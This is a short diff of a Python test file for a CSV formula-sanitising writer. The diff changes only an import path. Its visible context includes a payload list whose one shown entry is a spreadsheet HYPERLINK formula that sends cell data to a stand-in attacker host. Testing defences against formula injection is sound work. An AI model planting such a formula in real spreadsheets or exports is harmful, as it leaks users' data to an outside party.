@@ -5,7 +5,7 @@ import io
 
 import pytest
 
-from annotation.datasets.csv_cells import SafeCsvWriter, formula_safe
+from common.csv_cells import SafeCsvWriter, formula_safe
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click") read on',
